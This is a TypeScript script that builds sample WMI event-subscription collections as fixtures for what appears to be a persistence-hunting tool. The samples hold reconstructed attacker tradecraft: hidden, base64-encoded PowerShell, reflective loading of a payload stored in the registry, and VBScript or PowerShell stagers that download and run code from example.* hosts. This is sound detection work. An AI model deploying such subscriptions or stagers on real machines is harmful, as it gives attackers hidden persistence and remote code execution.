/**
 * Generates the bundled sample collections (samples/collections/*.json) with correct content hashes.
 *
 *   npx tsx samples/build.ts          writes the files
 *   npx tsx samples/build.ts --check  exits 1 when a committed file differs from what this generates
 *
 * The subscriptions are reconstructions of publicly reported tradecraft (samples/README.md says
 * which reporting each follows); names, hosts and URLs are illustrative (example.* domains, no live
 * infrastructure). test/cli/samples.test.ts fails when the committed files are out of date.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { WmiValue } from '../src/domain/collection.js';
import { contentHashOf } from '../src/domain/wmi-object.js';

type Properties = Record<string, WmiValue>;

interface SampleObject {
  namespace: string;
  className: string;
  properties: Properties;
  creatorSid: string | null;
  creatorAccount: string | null;
  contentHash: string;
}

interface SampleHost {
  name: string;
  fqdn: string;
  osBuild: string;
  creatorSid: string;
  creatorAccount: string | null;
}

const COLLECTED_AT = '2026-11-29T09:30:00.000Z';
const NAMESPACES = ['root', 'root\\cimv2', 'root\\default', 'root\\subscription', 'root\\wmi'];

function object(host: SampleHost, namespace: string, className: string, properties: Properties): SampleObject {
  return {
    namespace,
    className,
    properties,
    creatorSid: host.creatorSid,
    creatorAccount: host.creatorAccount,
    contentHash: contentHashOf(namespace, className, properties),
  };
}

function filter(host: SampleHost, namespace: string, name: string, query: string, eventNamespace = 'root\\cimv2'): SampleObject {
  return object(host, namespace, '__EventFilter', { Name: name, Query: query, QueryLanguage: 'WQL', EventNamespace: eventNamespace, EventAccess: null });
}

function commandLineConsumer(host: SampleHost, namespace: string, name: string, command: string, workingDirectory: string | null = null): SampleObject {
  return object(host, namespace, 'CommandLineEventConsumer', {
    Name: name,
    CommandLineTemplate: command,
    ExecutablePath: null,
    WorkingDirectory: workingDirectory,
    RunInteractively: false,
    ShowWindowCommand: null,
    KillTimeout: 0,
  });
}

function activeScriptConsumer(host: SampleHost, namespace: string, name: string, engine: string, script: string): SampleObject {
  return object(host, namespace, 'ActiveScriptEventConsumer', {
    Name: name,
    ScriptingEngine: engine,
    ScriptText: script,
    ScriptFileName: null,
    KillTimeout: 0,
  });
}

function binding(host: SampleHost, namespace: string, filterPath: string, consumerPath: string): SampleObject {
  return object(host, namespace, '__FilterToConsumerBinding', {
    Filter: filterPath,
    Consumer: consumerPath,
    DeliverSynchronously: false,
    DeliveryQoS: 0,
    MaintainSecurityContext: false,
    SlowDownProviders: false,
  });
}

function path(className: string, name: string, namespace?: string): string {
  const relative = `${className}.Name="${name.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
  return namespace ? `\\\\.\\${namespace}:${relative}` : relative;
}

/** What -EncodedCommand takes: base64 of the UTF-16LE text. */
function encodedCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

function collection(host: SampleHost, parts: { filters?: SampleObject[]; consumers?: SampleObject[]; bindings?: SampleObject[]; timers?: SampleObject[]; autorecoverMofs?: unknown[]; events?: unknown[] }) {
  return {
    schemaVersion: 1,
    host: {
      name: host.name,
      fqdn: host.fqdn,
      osBuild: host.osBuild,
      powershellVersion: '5.1.19041.4648',
      sysmon: { present: true, version: '15.15' },
      wmiActivityLogEnabled: true,
    },
    collectedAt: COLLECTED_AT,
    collector: { name: 'wmi-hunter-collect', version: '1.0.0' },
    namespaces: NAMESPACES,
    filters: parts.filters ?? [],
    consumers: parts.consumers ?? [],
    bindings: parts.bindings ?? [],
    timers: parts.timers ?? [],
    errors: [],
    autorecoverMofs: parts.autorecoverMofs ?? [],
    events: parts.events ?? [],
    eventsTruncated: false,
    lookbackHours: 24,
  };
}

const SUB = 'root\\subscription';
const STARTUP_QUERY =
  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325";

function apt29(): object {
  const host: SampleHost = { name: 'WKS-LEGAL-07', fqdn: 'wks-legal-07.corp.example.com', osBuild: '10.0.19045', creatorSid: 'S-1-5-21-1004336348-1177238915-682003330-1109', creatorAccount: 'CORP\\adm-jkoval' };
  const script = [
    'Set shell = CreateObject("WScript.Shell")',
    'cfg = shell.RegRead("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Ext\\Cfg")',
    'shell.Run "powershell.exe -NoP -NonI -W Hidden -C ""IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(\'" & cfg & "\')))""", 0, False',
  ].join('\r\n');
  return collection(host, {
    filters: [filter(host, SUB, 'WindowsCoreInit', STARTUP_QUERY)],
    consumers: [activeScriptConsumer(host, SUB, 'WindowsCoreInit', 'VBScript', script)],
    bindings: [binding(host, SUB, path('__EventFilter', 'WindowsCoreInit'), path('ActiveScriptEventConsumer', 'WindowsCoreInit'))],
  });
}

function turla(): object {
  const host: SampleHost = { name: 'SRV-MFA-02', fqdn: 'srv-mfa-02.corp.example.com', osBuild: '10.0.17763', creatorSid: 'S-1-5-18', creatorAccount: 'NT AUTHORITY\\SYSTEM' };
  const command =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -NonI -W Hidden -C \"$b=(Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Cryptography\\Providers' -Name Blob).Blob;[Reflection.Assembly]::Load([Convert]::FromBase64String($b)).EntryPoint.Invoke($null,$null)\"";
  return collection(host, {
    filters: [
      filter(host, SUB, 'AudioSrvMonitor', "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'explorer.exe'"),
    ],
    consumers: [commandLineConsumer(host, SUB, 'AudioSrvMonitor', command)],
    bindings: [binding(host, SUB, path('__EventFilter', 'AudioSrvMonitor'), path('CommandLineEventConsumer', 'AudioSrvMonitor'))],
  });
}

function fin8(): object {
  const host: SampleHost = { name: 'POS-STORE-114', fqdn: 'pos-store-114.retail.example.com', osBuild: '6.1.7601', creatorSid: 'S-1-5-21-3623811015-3361044348-30300820-1013', creatorAccount: 'RETAIL\\svc-backup' };
  const stage = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.org/s/upd.ps1')";
  return collection(host, {
    filters: [filter(host, SUB, 'SysHealthCheck', "SELECT * FROM __TimerEvent WHERE TimerID = 'SysHealthTimer'", 'root\\cimv2')],
    consumers: [commandLineConsumer(host, SUB, 'SysHealthCheck', `powershell.exe -NoP -NonI -W Hidden -enc ${encodedCommand(stage)}`)],
    bindings: [binding(host, SUB, path('__EventFilter', 'SysHealthCheck'), path('CommandLineEventConsumer', 'SysHealthCheck'))],
    timers: [object(host, 'root\\cimv2', '__IntervalTimerInstruction', { TimerId: 'SysHealthTimer', IntervalBetweenEvents: 3_600_000, SkipIfPassed: false })],
  });
}

function mofInstalled(): object {
  const host: SampleHost = { name: 'ENG-CAD-31', fqdn: 'eng-cad-31.corp.example.com', osBuild: '10.0.22631', creatorSid: 'S-1-5-21-1004336348-1177238915-682003330-1422', creatorAccount: 'CORP\\t.brandt' };
  const ns = 'root\\cimv2';
  const script = [
    'var shell = new ActiveXObject("WScript.Shell");',
    'shell.Run("rundll32.exe C:\\\\ProgramData\\\\Intel\\\\igfxsvc.dll,Start", 0, false);',
  ].join('\n');
  return collection(host, {
    filters: [filter(host, ns, 'IntelGfxLogon', "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2", ns)],
    consumers: [activeScriptConsumer(host, ns, 'IntelGfxLogon', 'JScript', script)],
    bindings: [binding(host, ns, path('__EventFilter', 'IntelGfxLogon'), path('ActiveScriptEventConsumer', 'IntelGfxLogon'))],
    autorecoverMofs: [{ path: 'C:\\Users\\Public\\Libraries\\igfx.mof', present: false, sha256: null }],
    events: mofInstallEvents(host, script),
  });
}

/** The Sysmon records of the installation, as the collector returns them: a JScript dropper runs mofcomp. */
function mofInstallEvents(host: SampleHost, script: string): object[] {
  const sysmonQuoted = (value: string) => ` "${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
  const event = (eventId: number, recordId: number, time: string, data: Record<string, string>) => ({
    host: host.fqdn,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'Microsoft-Windows-Sysmon',
    eventId,
    recordId,
    time,
    data: { UtcTime: time.replace('T', ' ').replace('Z', ''), ...data },
  });
  const process = (recordId: number, time: string, guid: string, pid: number, image: string, commandLine: string, parent: { guid: string; pid: number; image: string; commandLine: string }) =>
    event(1, recordId, time, {
      ProcessGuid: guid, ProcessId: String(pid), Image: image, CommandLine: commandLine, User: 'CORP\\t.brandt', LogonId: '0x4c1f2a', IntegrityLevel: 'High',
      ParentProcessGuid: parent.guid, ParentProcessId: String(parent.pid), ParentImage: parent.image, ParentCommandLine: parent.commandLine,
    });
  const wmi = (eventId: number, recordId: number, time: string, data: Record<string, string>) => event(eventId, recordId, time, { Operation: 'Created', User: 'CORP\\t.brandt', ...data });
  const explorer = { guid: '{8d2e4a10-2c41-6747-4b01-000000001c00}', pid: 5120, image: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE' };
  const dropper = { guid: '{8d2e4a10-6f83-6748-9a03-000000001c00}', pid: 7342, image: 'C:\\Windows\\System32\\wscript.exe', commandLine: '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\t.brandt\\Downloads\\IntelGfxUpdate.js"' };
  return [
    process(88231, '2026-11-28T14:02:11.204Z', dropper.guid, dropper.pid, dropper.image, dropper.commandLine, explorer),
    process(88236, '2026-11-28T14:02:12.950Z', '{8d2e4a10-6f84-6748-9b03-000000001c00}', 7410, 'C:\\Windows\\System32\\wbem\\mofcomp.exe', '"C:\\Windows\\System32\\wbem\\mofcomp.exe" C:\\Users\\Public\\Libraries\\igfx.mof', dropper),
    wmi(19, 88239, '2026-11-28T14:02:13.402Z', { EventNamespace: sysmonQuoted('root\\cimv2'), Name: sysmonQuoted('IntelGfxLogon'), Query: sysmonQuoted("SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2") }),
    wmi(20, 88240, '2026-11-28T14:02:13.418Z', { Name: sysmonQuoted('IntelGfxLogon'), Type: 'Script', Destination: sysmonQuoted(script) }),
    wmi(21, 88241, '2026-11-28T14:02:13.433Z', { Consumer: sysmonQuoted('ActiveScriptEventConsumer.Name="IntelGfxLogon"'), Filter: sysmonQuoted('__EventFilter.Name="IntelGfxLogon"') }),
  ];
}

function windowsDefaults(): object {
  const host: SampleHost = { name: 'WKS-CLEAN-01', fqdn: 'wks-clean-01.corp.example.com', osBuild: '10.0.19045', creatorSid: 'S-1-5-32-544', creatorAccount: null };
  const scmConsumer = object(host, SUB, 'NTEventLogEventConsumer', {
    Name: 'SCM Event Log Consumer',
    Category: 0,
    EventType: 1,
    NameOfUserSIDProperty: 'sid',
    SourceName: 'Service Control Manager',
  });
  return collection(host, {
    filters: [
      filter(host, SUB, 'SCM Event Log Filter', 'select * from MSFT_SCMEventLogEvent'),
      filter(host, SUB, 'BVTFilter', 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_Processor" AND TargetInstance.LoadPercentage > 99'),
    ],
    consumers: [scmConsumer, commandLineConsumer(host, SUB, 'BVTConsumer', 'cscript KernCap.vbs', 'C:\\tools\\kernrate')],
    bindings: [
      binding(host, SUB, path('__EventFilter', 'SCM Event Log Filter'), path('NTEventLogEventConsumer', 'SCM Event Log Consumer')),
      binding(host, SUB, path('__EventFilter', 'BVTFilter'), path('CommandLineEventConsumer', 'BVTConsumer')),
    ],
  });
}

function impostor(): object {
  const host: SampleHost = { name: 'WKS-HR-12', fqdn: 'wks-hr-12.corp.example.com', osBuild: '10.0.19045', creatorSid: 'S-1-5-21-1004336348-1177238915-682003330-1530', creatorAccount: 'CORP\\m.okafor' };
  const stage = "$c=New-Object Net.WebClient;$c.DownloadFile('https://files.example.net/u/svc.exe',\"$env:APPDATA\\svchost.exe\");Start-Process \"$env:APPDATA\\svchost.exe\"";
  const vbs = [
    'Set x = CreateObject("MSXML2.XMLHTTP")',
    'x.Open "GET", "https://files.example.net/u/cfg.txt", False',
    'x.Send',
    'Execute x.responseText',
  ].join('\r\n');
  return collection(host, {
    filters: [
      filter(host, SUB, 'SCM Event Log Filter', 'select * from MSFT_SCMEventLogEvent'),
      filter(host, 'root\\cimv2', 'SCM Event8 Log Filter', "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 3 AND TargetInstance.Minute = 0"),
    ],
    consumers: [
      commandLineConsumer(host, SUB, 'SCM Event Log Consumer', `powershell.exe -NoP -W Hidden -EncodedCommand ${encodedCommand(stage)}`),
      activeScriptConsumer(host, SUB, 'SCM Event8 Log Consumer', 'VBScript', vbs),
    ],
    bindings: [
      binding(host, SUB, path('__EventFilter', 'SCM Event Log Filter'), path('CommandLineEventConsumer', 'SCM Event Log Consumer')),
      binding(host, SUB, path('__EventFilter', 'SCM Event8 Log Filter', 'root\\cimv2'), path('ActiveScriptEventConsumer', 'SCM Event8 Log Consumer')),
    ],
  });
}

export const SAMPLES: ReadonlyArray<{ file: string; build: () => object }> = [
  { file: 'apt29-activescript-startup.json', build: apt29 },
  { file: 'turla-process-start-commandline.json', build: turla },
  { file: 'fin8-interval-timer-encoded-powershell.json', build: fin8 },
  { file: 'mof-installed-logon-subscription.json', build: mofInstalled },
  { file: 'windows-defaults.json', build: windowsDefaults },
  { file: 'borrowed-name-impostor.json', build: impostor },
];

export const COLLECTIONS_DIR = fileURLToPath(new URL('./collections/', import.meta.url));

export function renderSample(build: () => object): string {
  return `${JSON.stringify(build(), null, 2)}\n`;
}

/** Files whose committed text differs from what the definitions above generate. */
export function staleSamples(): string[] {
  return SAMPLES.filter(({ file, build }) => {
    let committed: string | null = null;
    try {
      committed = readFileSync(COLLECTIONS_DIR + file, 'utf8');
    } catch {
      committed = null;
    }
    return committed !== renderSample(build);
  }).map(({ file }) => file);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  if (process.argv.includes('--check')) {
    const stale = staleSamples();
    if (stale.length > 0) {
      process.stderr.write(`out of date (run npx tsx samples/build.ts): ${stale.join(', ')}\n`);
      process.exitCode = 1;
    }
  } else {
    for (const { file, build } of SAMPLES) writeFileSync(COLLECTIONS_DIR + file, renderSample(build));
    process.stdout.write(`wrote ${SAMPLES.length} sample collections to ${COLLECTIONS_DIR}\n`);
  }
}
